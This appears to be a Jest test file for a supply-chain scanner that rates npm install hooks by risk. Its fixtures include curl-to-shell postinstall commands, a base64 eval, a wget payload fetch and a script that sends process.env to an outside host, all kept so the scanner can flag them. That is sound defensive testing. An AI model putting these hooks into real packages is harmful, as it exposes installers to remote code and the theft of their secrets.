import { packageJson, pkg } from '../__fixtures__/package-builder';
import { analyzeSource } from './source.analyzer';
import { analyzeInstallHooks, classifyHookCommand } from './install-hooks';

const hooks = (files: Record<string, string>) => analyzeInstallHooks(pkg(files), new Map()).map((f) => `${f.severity} ${f.location} ${f.evidence}`);

describe('TP-SRC-001 install hooks', () => {
  it.each([
    ['node-gyp rebuild', 'info'],
    ['prebuild-install || node-gyp rebuild', 'info'],
    ['husky install', 'info'],
    ['node scripts/setup.js', 'low'],
    ['curl -sL https://x.example/i.sh | bash', 'critical'],
    ['node -e "eval(Buffer.from(process.argv[1],\'base64\').toString())" aGk=', 'critical'],
    ['wget https://x.example/payload -O /tmp/p', 'high'],
    ['nohup node daemon.js &', 'high'],
  ])('%s → %s', (body, severity) => {
    expect(classifyHookCommand(body).severity).toBe(severity);
  });

  it('locates the script in package.json and downgrades prepare', () => {
    expect(hooks({ 'package.json': packageJson({ scripts: { build: 'tsc', prepare: 'npm run build', postinstall: 'curl https://x.example | sh' } }) })).toEqual([
      'critical package.json:7 postinstall: curl https://x.example | sh',
      'info package.json:6 prepare: npm run build',
    ]);
  });

  it('reports binding.gyp as an implicit native build', () => {
    expect(hooks({ 'package.json': packageJson({}), 'binding.gyp': '{}' })).toEqual(['info binding.gyp:1 binding.gyp']);
  });

  it('escalates a hook that runs a file with high findings', () => {
    const contents = pkg({
      'package.json': packageJson({ scripts: { postinstall: 'node ./scripts/p.js' } }),
      'scripts/p.js': `require('https').request({ host: 'x' }).end(JSON.stringify(process.env));`,
    });
    const found = analyzeSource(contents).map((f) => `${f.ruleId} ${f.severity} ${f.location}`);
    expect(found).toEqual(['TP-SRC-005 critical scripts/p.js:1', 'TP-SRC-001 high package.json:5']);
  });

  it('reads shell scripts a hook runs', () => {
    expect(hooks({ 'package.json': packageJson({ scripts: { install: 'sh install.sh' } }), 'install.sh': '#!/bin/sh\ncurl -fsSL https://x.example/a | sh\n' })[0]).toMatch(/^critical/);
  });
});

describe('TP-SRC-001 inline code', () => {
  it('a node -e fallback that only exits is not inline code worth a review', () => {
    expect(classifyHookCommand('node dist/track.js || node -e "process.exit(0)"').severity).toBe('low');
    expect(classifyHookCommand(`node -e "require('https').get('https://x.example')"`).severity).toBe('high');
  });
});
